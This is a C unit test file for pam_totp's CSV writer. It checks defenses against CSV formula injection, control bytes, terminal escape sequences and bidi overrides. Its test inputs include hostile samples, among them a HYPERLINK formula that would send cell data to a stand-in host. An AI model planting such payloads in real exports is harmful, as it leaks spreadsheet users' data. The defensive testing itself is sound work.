/* SPDX-License-Identifier: BSD-2-Clause
 * Copyright the pam_totp authors */

/* csv.h: whatever a name holds, it stays one field of one row, is no formula and drives
 * no terminal. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "utils/csv.h"

/* A row of the texts, which end with NULL. The caller frees it. */
static char *
written(const char *const *text)
{
	char *out = NULL;
	size_t len = 0;
	struct csv c;
	FILE *stream = open_memstream(&out, &len);

	assert_non_null(stream);
	csv_begin(&c, stream);
	for (; *text != NULL; text++)
		csv_field(&c, *text);
	csv_end_row(&c);
	assert_int_equal(fclose(stream), 0);
	assert_int_equal(strlen(out), len);
	return out;
}

static void
test_fields(void **state)
{
	static const struct {
		const char *in;
		const char *out;
	} rows[] = {
		{ "", "\"\"\n" },
		{ "alice", "\"alice\"\n" },
		{ "a,b;c d", "\"a,b;c d\"\n" },
		{ "say \"hi\"", "\"say \"\"hi\"\"\"\n" },
		{ "\"", "\"\"\"\"\n" },
		{ "\",\"", "\"\"\",\"\"\"\n" },
		{ "=1+1", "\"'=1+1\"\n" },
		{ "+1", "\"'+1\"\n" },
		{ "-1", "\"'-1\"\n" },
		{ "@SUM(A1)", "\"'@SUM(A1)\"\n" },
		{ "\t=1", "\"'?=1\"\n" },
		{ "\r=1", "\"'?=1\"\n" },
		{ "\n=1", "\"'?=1\"\n" },
		{ "\x7f=1", "\"'?=1\"\n" },
		{ "=\"\"", "\"'=\"\"\"\"\"\n" },
		{ "=HYPERLINK(\"http://h/\"&A1,\"x\")",
		    "\"'=HYPERLINK(\"\"http://h/\"\"&A1,\"\"x\"\")\"\n" },
		{ "\xef\xbc\x9d" "1", "\"'\xef\xbc\x9d" "1\"\n" },
		{ "\xef\xbc\x8b" "1", "\"'\xef\xbc\x8b" "1\"\n" },
		{ "a=1", "\"a=1\"\n" },
		{ "'=1", "\"'=1\"\n" },
		{ "a\nb,c\rx=d", "\"a?b,c?x=d\"\n" },
		{ "a\x1b[31m", "\"a?[31m\"\n" },
		{ "a\xc2\x9b" "b", "\"a?b\"\n" },	     /* CSI as a C1 character */
		{ "a\xe2\x80\xae" "b", "\"a?b\"\n" }, /* right-to-left override */
		{ "gr\xc3\xbc\xc3\x9f", "\"gr\xc3\xbc\xc3\x9f\"\n" },
		{ "\xff\xc3", "\"?\?\"\n" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		const char *const row[] = { rows[i].in, NULL };
		char *out = written(row);
		assert_string_equal(out, rows[i].out);
		free(out);
	}
}

static void
test_rows(void **state)
{
	static const char *const row[] = { "a", "", "=b", NULL };
	static const char *const none[] = { NULL };
	char *out = written(row);

	(void)state;
	assert_string_equal(out, "\"a\",\"\",\"'=b\"\n");
	free(out);
	out = written(none);
	assert_string_equal(out, "\n");
	free(out);
}

static void
test_null_and_second_row(void **state)
{
	char *out = NULL;
	size_t len = 0;
	struct csv c;
	FILE *stream = open_memstream(&out, &len);

	(void)state;
	assert_non_null(stream);
	csv_begin(&c, stream);
	csv_field(&c, NULL);
	csv_field(&c, "x");
	csv_end_row(&c);
	csv_field(&c, "y");
	csv_end_row(&c);
	assert_int_equal(fclose(stream), 0);
	assert_string_equal(out, "\"\",\"x\"\n\"y\"\n");
	free(out);
}

/* Each single byte, at the beginning and inside: one quoted field of one line, printable. */
static void
test_every_byte(void **state)
{
	(void)state;
	for (int byte = 1; byte < 256; byte++) {
		for (int at = 0; at < 2; at++) {
			const char text[] = { at == 0 ? (char)byte : 'a',
				at == 0 ? 'a' : (char)byte, '\0' };
			const char *const row[] = { text, NULL };
			char *out = written(row);
			size_t len = strlen(out);
			assert_true(len >= 5 && out[0] == '"' && out[len - 2] == '"');
			assert_true(strchr("=+-@\t\r", out[1]) == NULL);
			size_t quotes = 0;
			for (size_t i = 0; i + 1 < len; i++) {
				assert_true((unsigned char)out[i] >= 0x20 &&
				    (unsigned char)out[i] < 0x7f);
				quotes += out[i] == '"';
			}
			assert_int_equal(quotes % 2, 0);
			assert_int_equal(out[len - 1], '\n');
			free(out);
		}
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_fields),
		cmocka_unit_test(test_rows),
		cmocka_unit_test(test_null_and_second_row),
		cmocka_unit_test(test_every_byte),
	};

	return cmocka_run_group_tests_name("csv", tests, NULL, NULL);
}
